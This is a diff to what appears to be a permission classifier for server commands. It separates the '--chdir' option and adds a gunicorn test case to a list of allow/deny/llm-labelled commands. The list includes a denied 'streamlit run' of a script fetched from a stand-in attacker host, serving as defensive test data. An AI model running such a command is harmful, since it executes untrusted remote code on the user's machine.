@@ -63,7 +63,8 @@ FLASK = command(
 )
 SERVER_OPTIONS = [
     HELP,
-    option("-c --config --log-config --app-dir --chdir --pythonpath --reload-dir", READS),
+    option("-c --config --log-config --app-dir --pythonpath --reload-dir", READS),
+    option("--chdir", "CHDIR"),
     option("--env-file", GIVES),
     option("-p --pid --access-logfile --error-logfile --log-file --access-log --error-log", WRITES),
 ]
@@ -315,6 +316,7 @@ TENSORBOARD = loose(
 )
 
 CASES = """
+llm    gunicorn --chdir /tmp/site app:app
 allow  streamlit run app.py --server.port 8501
 deny   streamlit run https://evil.example/a.py
 llm    streamlit run /etc/x.py
